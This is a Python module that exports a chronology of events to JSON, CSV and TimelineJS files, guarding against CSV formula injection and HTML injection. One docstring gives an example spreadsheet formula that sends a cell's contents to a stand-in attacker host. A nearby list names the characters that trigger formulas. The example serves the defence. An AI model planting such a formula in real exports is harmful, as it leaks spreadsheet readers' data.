"""The data files: ``chronologie.json`` (a public contract, see DESIGN.md), a CSV and TimelineJS.

JSON: fields may be added; none renamed or removed. UTF-8, keys sorted, stable across builds.
CSV: one row per event for a spreadsheet. TimelineJS: the format of that embeddable tool.
"""

from __future__ import annotations

import csv
import html
import io
import json
from datetime import date
from typing import Any
from urllib.parse import quote

from chronicle import urls
from chronicle.annotations import export_annotations
from chronicle.cards import KINDS as CARD_KINDS
from chronicle.cards import card_files, card_url
from chronicle.config import Config
from chronicle.derive import Facts
from chronicle.markdown import render_markdown, resolve_internal_links
from chronicle.metadata import csl_json, reference, ris
from chronicle.model import Chronology, Event
from chronicle.plan import record_dates
from chronicle.views import passage_url, plain_text


def export_event(event: Event, chronology: Chronology, config: Config) -> dict[str, Any]:
    """One event as the export describes it: its EDTF date beside the range it spans."""
    date = event.date
    return {
        "id": event.id, "url": urls.event_url(event.id), "address": config.public(urls.event_url(event.id)) or None,
        "title": event.title, "date": date.text,
        "date_start": date.iso_start(), "date_end": date.iso_end(), "precision": date.precision,
        "approximate": date.approximate, "uncertain": date.uncertain, "date_basis": event.date_basis,
        "kind": event.kind, "actors": list(event.actors), "channels": list(event.channels),
        "initiator": event.initiator, "summary": event.summary,
        "citations": [{"source": c.source, "quote": c.quote, "url": (url := passage_url(c.source, event, c.number,
                                                                                         chronology)),
                       "address": config.public(url) or None} for c in event.citations],
        "annotation": event.annotation,
    }


def export_data(chronology: Chronology, config: Config) -> dict[str, Any]:
    """The whole chronology as plain data, with the base URL its ``url`` fields are relative to and,
    when it is known, each record's absolute ``address``."""
    def address(kind: str, record_id: str) -> str | None:
        return config.public(urls.record_url(kind, record_id)) or None

    return {
        "base_url": config.base_url or None, "license": config.license_url or config.license or None,
        "events": [export_event(event, chronology, config) for event in chronology.events],
        "actors": [{"id": a.id, "url": urls.record_url("actor", a.id), "address": address("actor", a.id),
                    "name": a.name,
                    "aliases": list(a.aliases), "type": a.type, "country": a.country}
                   for a in chronology.actors.values()],
        "channels": [{"id": c.id, "url": urls.record_url("channel", c.id), "address": address("channel", c.id),
                      "name": c.name, "kind": c.kind,
                      "parties": list(c.parties), "established": c.established.text if c.established else None}
                     for c in chronology.channels.values()],
        "sources": [{"id": s.id, "url": urls.record_url("source", s.id), "address": address("source", s.id),
                     "title": s.title,
                     "published": s.published.text, "language": s.language, "reports": list(s.reports)}
                    for s in chronology.sources.values()],
    }


def export_json(chronology: Chronology, config: Config) -> bytes:
    """``chronologie.json`` as bytes: UTF-8, keys sorted, indented, newline at the end."""
    text = json.dumps(export_data(chronology, config), ensure_ascii=False, sort_keys=True, indent=1)
    return (text + "\n").encode("utf-8")


PRECISION_FR = {"day": "jour", "month": "mois", "year": "année"}
BASIS_FR = {"explicit": "donnée par la source", "inferred": "déduite"}
CSV_COLUMNS = ("id", "date", "date_debut", "date_fin", "date_edtf", "precision", "base_de_la_date", "note_sur_la_date",
               "titre", "nature", "acteurs", "canaux", "initiateur", "resume", "sources", "citations",
               "annotation", "adresse")


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")  # OWASP "CSV injection", and a line break


def spreadsheet_cell(value: str) -> str:
    """``value`` as a spreadsheet shows it as text, never as a formula.

    Excel, LibreOffice and Google Sheets evaluate a cell that starts with ``=``, ``+``, ``-`` or
    ``@`` (also after spaces), and a tab or a carriage return can start one in the next cell: a
    title ``=HYPERLINK("https://evil.example/?"&A1; "Source")`` would run in the reader's sheet.
    Such a cell gets a leading apostrophe, OWASP's advice, which spreadsheets show as text. Every
    CSV the site publishes writes its cells through here.
    """
    if value.startswith(FORMULA_STARTS) or value.lstrip(" \u00a0")[:1] in ("=", "+", "-", "@"):
        return "'" + value
    return value


def csv_row(event: Event, chronology: Chronology, config: Config) -> list[str]:
    """One event as a spreadsheet row: names rather than ids, plain text rather than Markdown."""
    date = event.date
    return [
        event.id, date.display(), date.iso_start() or "", date.iso_end() or "", date.text,
        PRECISION_FR.get(date.precision, date.precision), BASIS_FR[event.date_basis], event.date_note or "",
        event.title, config.kind(event.kind).label,
        "; ".join(chronology.actors[a].name for a in event.actors),
        "; ".join(chronology.channels[c].name for c in event.channels),
        chronology.actors[event.initiator].name if event.initiator else "",
        plain_text(event.summary),
        "; ".join(dict.fromkeys(chronology.sources[c.source].title for c in event.citations)),
        " | ".join(f"« {c.quote} »" for c in event.citations),
        plain_text(event.annotation) if event.annotation else "",
        config.public(urls.event_url(event.id)),
    ]


def export_csv(chronology: Chronology, config: Config, delimiter: str = ",",
               rows: list[list[str]] | None = None) -> bytes:
    """``evenements.csv``: one row per event, every cell neutralised (``spreadsheet_cell``); UTF-8 with a
    byte-order mark and CRLF, as tablers expect. ``delimiter`` ";" makes the variant French Excel
    splits into columns on a double click (its list separator is ";", the comma being the decimal one)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(CSV_COLUMNS)
    writer.writerows(rows if rows is not None else spreadsheet_rows(chronology, config))
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def spreadsheet_rows(chronology: Chronology, config: Config) -> list[list[str]]:
    """Every event's row, each cell neutralised: made once for both CSV files."""
    return [[spreadsheet_cell(cell) for cell in csv_row(event, chronology, config)] for event in chronology.events]


def text_html(text: str) -> str:
    """Plain text for a field a program writes with ``innerHTML``: ``&``, ``<`` and ``>`` escaped."""
    return html.escape(text, quote=False)


def timelinejs_date(day: date, precision: str) -> dict[str, str]:
    """A TimelineJS date object, no more precise than the date itself."""
    parts = {"year": str(day.year)}
    if precision in ("month", "day"):
        parts["month"] = str(day.month)
    if precision == "day":
        parts["day"] = str(day.day)
    return parts


def timelinejs_event(event: Event, chronology: Chronology, config: Config) -> dict[str, Any]:
    """One event as a TimelineJS3 slide; an interval or a vague date gets its end date too."""
    first = event.date.start or event.date.end
    assert first is not None
    slide: dict[str, Any] = {
        "unique_id": event.id,
        "start_date": timelinejs_date(first, event.date.precision),
        "display_date": text_html(event.date.display()),
        "text": {"headline": text_html(event.title),
                 "text": f"{absolute_links(render_markdown(event.summary), config)}{page_link(event, config)}"},
        # TimelineJS writes every one of these (group included) with innerHTML: text is escaped,
        # ``text.text`` is the summary rendered with raw HTML off, as on the site.
        "group": text_html(chronology.channels[event.channels[0]].name if event.channels else "Hors canal"),
    }
    if event.date.interval and event.date.end:
        slide["end_date"] = timelinejs_date(event.date.end, event.date.precision)
    return slide


def absolute_links(html_text: str, config: Config) -> str:
    """A summary's links to records made absolute (from the base URL): a timeline is embedded anywhere."""
    return resolve_internal_links(html_text, None, config.public("/") or "/")


def page_link(event: Event, config: Config) -> str:
    """A link to the event's page, for TimelineJS; none without a base URL (a relative link would
    point inside whatever page embeds the timeline)."""
    address = config.public(urls.event_url(event.id))
    if not address:
        return ""
    return f"<p><a href=\"{html.escape(address)}\">La fiche de l'événement et ses sources</a></p>"


def export_timelinejs(chronology: Chronology, config: Config) -> bytes:
    """``timelinejs.json``: the chronology in TimelineJS3's JSON format, to embed in that tool."""
    data = {
        "title": {"text": {"headline": text_html(config.title),
                           "text": f"<p>{text_html(config.subtitle)}</p>"}},
        "events": [timelinejs_event(event, chronology, config) for event in chronology.events],
    }
    return (json.dumps(data, ensure_ascii=False, sort_keys=True, indent=1) + "\n").encode("utf-8")


def line_field(value: str) -> str:
    """``value`` as one field of a line-based file (``_redirects``, ``robots.txt``): spaces, line
    breaks and every other invisible character percent-encoded, so a value is always one field
    of one line and can never add a rule (``/ /ailleurs 301``) or a line of its own."""
    if value.isprintable() and not any(char.isspace() for char in value):
        return value
    return "".join(char if char.isprintable() and not char.isspace() else quote(char) for char in value)


DATA_URLS = urls.DATA_URLS  # those of ``data_files``, known before them (the check foresees them)
CITATION_FILES = tuple(urls.CITATION_FILES.values())  # beside each event page: CSL-JSON and RIS (``urls``)


def citation_files(chronology: Chronology, config: Config) -> dict[str, bytes]:
    """Each event's citation as CSL-JSON and RIS, beside its page (``metadata``)."""
    files = {}
    for event in chronology.events:
        url = urls.event_url(event.id)
        dates = record_dates(config, "event", event.id)
        ref = reference(event.title, config.public(url), config, dates)
        folder = urls.output_path(url).removesuffix("index.html")
        files[folder + CITATION_FILES[0]] = csl_json(event.id, ref, config, dates)
        files[folder + CITATION_FILES[1]] = ris(ref, config, dates)
    return files


def data_paths(chronology: Chronology, config: Config) -> list[str]:
    """The paths of every file ``data_files`` makes, known before it runs."""
    folders = [urls.output_path(urls.event_url(event.id)).removesuffix("index.html") for event in chronology.events]
    cards = [card_url(kind).lstrip("/") for kind in CARD_KINDS] if config.base_url else []
    return [url.lstrip("/") for url in DATA_URLS] + [folder + name for folder in folders for name in CITATION_FILES] \
        + cards


def data_files(chronology: Chronology, facts: Facts, config: Config) -> dict[str, bytes]:
    """Every data file of the site (``data_paths``): {path under site/: bytes}. The share cards are drawn
    here too: the build makes these files while Pagefind indexes, when it would otherwise wait."""
    rows = spreadsheet_rows(chronology, config)
    return {
        urls.EXPORT.lstrip("/"): export_json(chronology, config),
        urls.EXPORT_CSV.lstrip("/"): export_csv(chronology, config, rows=rows),
        urls.EXPORT_EXCEL.lstrip("/"): export_csv(chronology, config, ";", rows),
        urls.EXPORT_ANNOTATIONS.lstrip("/"): export_annotations(chronology, facts, config),
        urls.EXPORT_TIMELINEJS.lstrip("/"): export_timelinejs(chronology, config),
        **citation_files(chronology, config),
        **card_files(chronology, config),
    }
